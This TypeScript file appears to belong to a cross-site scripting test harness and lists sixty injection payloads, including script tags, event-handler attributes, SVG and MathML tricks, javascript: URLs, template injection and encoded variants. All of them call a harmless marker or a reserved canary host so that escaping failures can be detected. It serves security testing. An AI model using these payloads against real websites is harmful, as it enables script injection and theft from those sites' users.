/**
 * Sixty texts that run where a program forgets to escape. Each either calls `__xss` (also upper-cased, as the forms keep
 * some fields) or asks a host that only these name, so that what ran is seen. The last ones are short enough for any field.
 */

/** The host that only payloads name. */
export const canary = 'xss.invalid';

const run = '__xss(1)';
// survives upper-casing, quoting and filters of words
const coded = [...run].map((char) => `&#${char.charCodeAt(0)};`).join('');

export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=//${canary}/s1></script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${coded}">`,
  `<img src=//${canary}/i1>`,
  `<img srcset=//${canary}/i2>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  '` onerror=__xss(1) x=`',
  `<svg onload=${run}>`,
  `<svg><script>${coded}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext></mtext><mglyph><style></math><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src=//${canary}/f1></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data=//${canary}/o1></object>`,
  `<embed src=//${canary}/e1>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=//${canary}/v1></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<link rel=stylesheet href=//${canary}/l1>`,
  `<style>@import '//${canary}/c1';</style>`,
  `<div style="background:url(//${canary}/c2)">x</div>`,
  `<div style=animation-name:x onanimationstart=${run}>x</div><style>@keyframes x{}</style>`,
  `<meta http-equiv=refresh content="0;url=//${canary}/m1">`,
  `<base href=//${canary}/>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<a href="javascript:${run}">clique</a>`,
  `<a href="java\tscript:${run}">clique</a>`,
  `javascript:${run}//`,
  `data:text/html,<script>parent.${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `&lt;img src=x onerror=${run}&gt;`,
  `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
  `<q oncut=${run}>`,
];

/** As much of a payload as a field takes; one that would be cut gives way to one that fits. */
export function payloadFor(at: number, longest: number): string {
  const fitting = payloads.filter((one) => one.length <= longest);
  const own = payloads[at % payloads.length]!;
  if (own.length <= longest) return own;
  return fitting.length > 0 ? fitting[at % fitting.length]! : own.slice(0, longest);
}
